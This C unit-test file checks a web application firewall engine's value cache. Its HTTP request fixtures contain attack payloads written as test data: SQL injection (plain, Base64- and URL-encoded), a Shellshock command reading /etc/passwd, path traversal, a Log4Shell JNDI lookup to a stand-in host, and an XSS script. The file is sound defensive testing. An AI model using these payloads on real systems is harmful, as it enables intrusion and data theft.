/* test_engine_cache.c - the engine's clean-value cache (engine_config.cache,
 * lib/detect/engine.c): a value it remembers is never one on which a
 * detector fired, the name and location are part of what it remembers,
 * exceptions do not leak from one path to another through it, and user
 * rules still see every value. Each test keeps one scratch (one worker)
 * across several requests, so the later ones run against a warm cache. */
#include <stdlib.h>
#include <string.h>

#include "harness.h"
#include "sekisho/engine.h"
#include "sekisho/rules.h"

static http_limits lim;

struct worker {
	engine *e;
	engine_scratch *s;
	arena *a;
	ruleset *rules;
};

static void worker_start(struct worker *w, bool cache, const engine_exception *ex, size_t nex, const char *rules)
{
	memset(w, 0, sizeof(*w));
	engine_config cfg;
	engine_config_default(&cfg);
	cfg.cache = cache;
	for (int i = 0; i < 16; i++)
		cfg.cache_key[i] = (uint8_t)(0xa5 ^ (i * 29));
	cfg.exceptions = ex;
	cfg.nexceptions = nex;
	if (rules) {
		char err[256];
		w->rules = ruleset_compile(rules, strlen(rules), "t.rules", err, sizeof(err));
		if (!w->rules)
			fprintf(stderr, "  compile: %s\n", err);
		cfg.rules = w->rules;
	}
	w->e = engine_new(&cfg);
	w->s = engine_scratch_new(w->e);
	w->a = arena_new(lim.max_arena);
}

static void worker_stop(struct worker *w)
{
	engine_scratch_free(w->s);
	engine_free(w->e);
	ruleset_free(w->rules);
	arena_free(w->a);
}

/* Inspect one request; match names and fragments are cleared (they point
 * into the arena, which the next request reuses). */
static verdict inspect(struct worker *w, const char *raw)
{
	http_header h[64];
	http_request req;
	http_view view;
	sk_slice body;
	bool trunc;
	size_t used;
	sk_error err = { 0 };
	verdict v;
	arena_reset(w->a);
	if (http_read_request(raw, strlen(raw), &req, h, 64, w->a, &lim, &body, &trunc, &used, &err) != SK_OK ||
	    view_build(&view, &req, body, trunc, w->a, &lim, &err) != SK_OK)
		engine_verdict_malformed(&v, &err);
	else
		engine_inspect(w->e, w->s, &req, &view, NULL, w->a, &v);
	for (size_t i = 0; i < v.nmatches; i++) {
		v.matches[i].fragment = SK_SLICE_NULL;
		v.matches[i].name = SK_SLICE_NULL;
	}
	return v;
}

static bool has_detector(const verdict *v, const char *det)
{
	for (size_t i = 0; i < v->nmatches; i++)
		if (strcmp(v->matches[i].detector, det) == 0)
			return true;
	return false;
}

static void test_off_by_default(void)
{
	engine_config cfg;
	engine_config_default(&cfg);
	CHECK(!cfg.cache);
}

/* The same attack in a header, again and again: found every time. */
static void test_attack_found_every_time(void)
{
	struct worker w;
	worker_start(&w, true, NULL, 0, NULL);
	const char req[] = "GET / HTTP/1.1\r\nHost: a.jp\r\nX-Q: 1' union select password from users--\r\n\r\n";
	for (int i = 0; i < 3; i++) {
		verdict v = inspect(&w, req);
		CHECK(v.block);
		CHECK(has_detector(&v, "sqli"));
	}
	worker_stop(&w);
}

/* A value that is clean under one header name (of the same length, so
 * that only the name's bytes differ) is remembered with that
 * name: under User-Agent the scanner detector still sees it. */
static void test_name_is_part_of_the_key(void)
{
	struct worker w;
	worker_start(&w, true, NULL, 0, NULL);
	const char as_other[] = "GET / HTTP/1.1\r\nHost: a.jp\r\nX-Agent-Id: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n";
	const char as_ua[] = "GET / HTTP/1.1\r\nHost: a.jp\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n";
	verdict v = inspect(&w, as_other);
	CHECK(!has_detector(&v, "scanner"));
	v = inspect(&w, as_other);
	CHECK(!has_detector(&v, "scanner"));
	v = inspect(&w, as_ua);
	CHECK(has_detector(&v, "scanner"));
	worker_stop(&w);
}

/* A hit removed by an exception on one path is not a clean value: the
 * same header on another path is still found. */
static void test_excepted_hit_is_not_cached(void)
{
	engine_exception ex;
	memset(&ex, 0, sizeof(ex));
	snprintf(ex.what, sizeof(ex.what), "sqli");
	snprintf(ex.path_prefix, sizeof(ex.path_prefix), "/admin/");
	struct worker w;
	worker_start(&w, true, &ex, 1, NULL);
	const char allowed[] = "GET /admin/x HTTP/1.1\r\nHost: a.jp\r\nX-Q: 1' union select password from users--\r\n\r\n";
	const char other[] = "GET /shop/x HTTP/1.1\r\nHost: a.jp\r\nX-Q: 1' union select password from users--\r\n\r\n";
	verdict v = inspect(&w, allowed);
	CHECK(!has_detector(&v, "sqli"));
	v = inspect(&w, allowed);
	CHECK(!has_detector(&v, "sqli"));
	v = inspect(&w, other);
	CHECK(has_detector(&v, "sqli"));
	CHECK(v.block);
	worker_stop(&w);
}

/* A value found only after Base64 decoding is not clean either. */
static void test_decoded_variant_hit_is_not_cached(void)
{
	struct worker w;
	worker_start(&w, true, NULL, 0, NULL);
	/* base64 of "1' union select password from users--" */
	const char req[] = "GET / HTTP/1.1\r\nHost: a.jp\r\nX-Data: MScgdW5pb24gc2VsZWN0IHBhc3N3b3JkIGZyb20gdXNlcnMtLQ==\r\n\r\n";
	verdict first = inspect(&w, req);
	verdict again = inspect(&w, req);
	CHECK(first.nmatches > 0);
	CHECK(first.nmatches > 0 && first.matches[0].decoded_variant);
	CHECK_INT(again.nmatches, first.nmatches);
	CHECK_INT(again.score, first.score);
	worker_stop(&w);
}

/* Cookie values are remembered (in a table of their own) under their
 * cookie's name: a clean consent cookie comes again and is skipped, an
 * attack in a cookie is found on every request, and a value clean in one
 * cookie is still inspected in a header, where other detectors look. */
static void test_cookie_values(void)
{
	struct worker w;
	worker_start(&w, true, NULL, 0, NULL);
	const char consent[] = "GET / HTTP/1.1\r\nHost: a.jp\r\nCookie: CookieConsent={stamp:%27x1%27%2Cnecessary:true}; "
			       "sid=682ADBDEDCD73B33DFFB51EB86ED46AF\r\n\r\n";
	const char attack[] = "GET / HTTP/1.1\r\nHost: a.jp\r\nCookie: sid=1%27%20union%20select%20password%20from%20users--\r\n\r\n";
	const char as_cookie[] = "GET / HTTP/1.1\r\nHost: a.jp\r\nCookie: ua=sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n";
	const char as_ua[] = "GET / HTTP/1.1\r\nHost: a.jp\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n";
	for (int i = 0; i < 3; i++) {
		verdict v = inspect(&w, consent);
		CHECK(!v.block);
		CHECK_INT(v.nmatches, 0);
		v = inspect(&w, attack);
		CHECK(v.block);
		CHECK(has_detector(&v, "sqli"));
	}
	verdict v = inspect(&w, as_cookie);
	CHECK(!has_detector(&v, "scanner"));
	v = inspect(&w, as_cookie);
	CHECK(!has_detector(&v, "scanner"));
	v = inspect(&w, as_ua);
	CHECK(has_detector(&v, "scanner"));
	worker_stop(&w);
}

/* User rules run on every value, cached or not. */
static void test_rules_see_cached_values(void)
{
	struct worker w;
	worker_start(&w, true, NULL, 0, "900 header:X-Token contains abc msg=\"token\"\n");
	const char req[] = "GET / HTTP/1.1\r\nHost: a.jp\r\nX-Token: abc123\r\n\r\n";
	for (int i = 0; i < 3; i++) {
		verdict v = inspect(&w, req);
		CHECK(has_detector(&v, "rule"));
		CHECK(v.block);
	}
	worker_stop(&w);
}

/* With and without the cache, a mixed sequence gives the same verdicts. */
static void test_same_verdicts_as_without(void)
{
	static const char *const reqs[] = {
		"GET /a HTTP/1.1\r\nHost: a.jp\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: text/html,*/*;q=0.8\r\n\r\n",
		"GET /a HTTP/1.1\r\nHost: a.jp\r\nUser-Agent: () { :; }; /bin/cat /etc/passwd\r\n\r\n",
		"GET /../../etc/passwd HTTP/1.1\r\nHost: a.jp\r\nReferer: https://a.jp/../../../../etc/passwd\r\n\r\n",
		"GET /a HTTP/1.1\r\nHost: a.jp\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: text/html,*/*;q=0.8\r\n\r\n",
		"GET /a HTTP/1.1\r\nHost: a.jp\r\nX-Api-Version: ${jndi:ldap://x.example/a}\r\n\r\n",
		"GET /a HTTP/1.1\r\nHost: a.jp\r\nUser-Agent: () { :; }; /bin/cat /etc/passwd\r\n\r\n",
		"GET /a HTTP/1.1\r\nHost: a.jp\r\nCookie: theme=dark; q=%3Cscript%3Ealert(1)%3C/script%3E\r\n\r\n",
		"GET /a HTTP/1.1\r\nHost: a.jp\r\nCookie: theme=dark; q=hello\r\n\r\n",
		"GET /a HTTP/1.1\r\nHost: a.jp\r\nCookie: theme=dark; q=%3Cscript%3Ealert(1)%3C/script%3E\r\n\r\n",
	};
	struct worker on, off;
	worker_start(&on, true, NULL, 0, NULL);
	worker_start(&off, false, NULL, 0, NULL);
	for (int round = 0; round < 2; round++)
		for (size_t i = 0; i < sizeof(reqs) / sizeof(reqs[0]); i++) {
			verdict a = inspect(&on, reqs[i]), b = inspect(&off, reqs[i]);
			CHECK_INT(a.block, b.block);
			CHECK_INT(a.score, b.score);
			CHECK_INT(a.nfound, b.nfound);
			for (size_t k = 0; k < a.nmatches && k < b.nmatches; k++)
				CHECK(strcmp(a.matches[k].rule, b.matches[k].rule) == 0);
		}
	worker_stop(&on);
	worker_stop(&off);
}

int main(void)
{
	http_limits_default(&lim);
	RUN(test_off_by_default);
	RUN(test_attack_found_every_time);
	RUN(test_name_is_part_of_the_key);
	RUN(test_excepted_hit_is_not_cached);
	RUN(test_decoded_variant_hit_is_not_cached);
	RUN(test_cookie_values);
	RUN(test_rules_see_cached_values);
	RUN(test_same_verdicts_as_without);
	return harness_done("engine_cache");
}
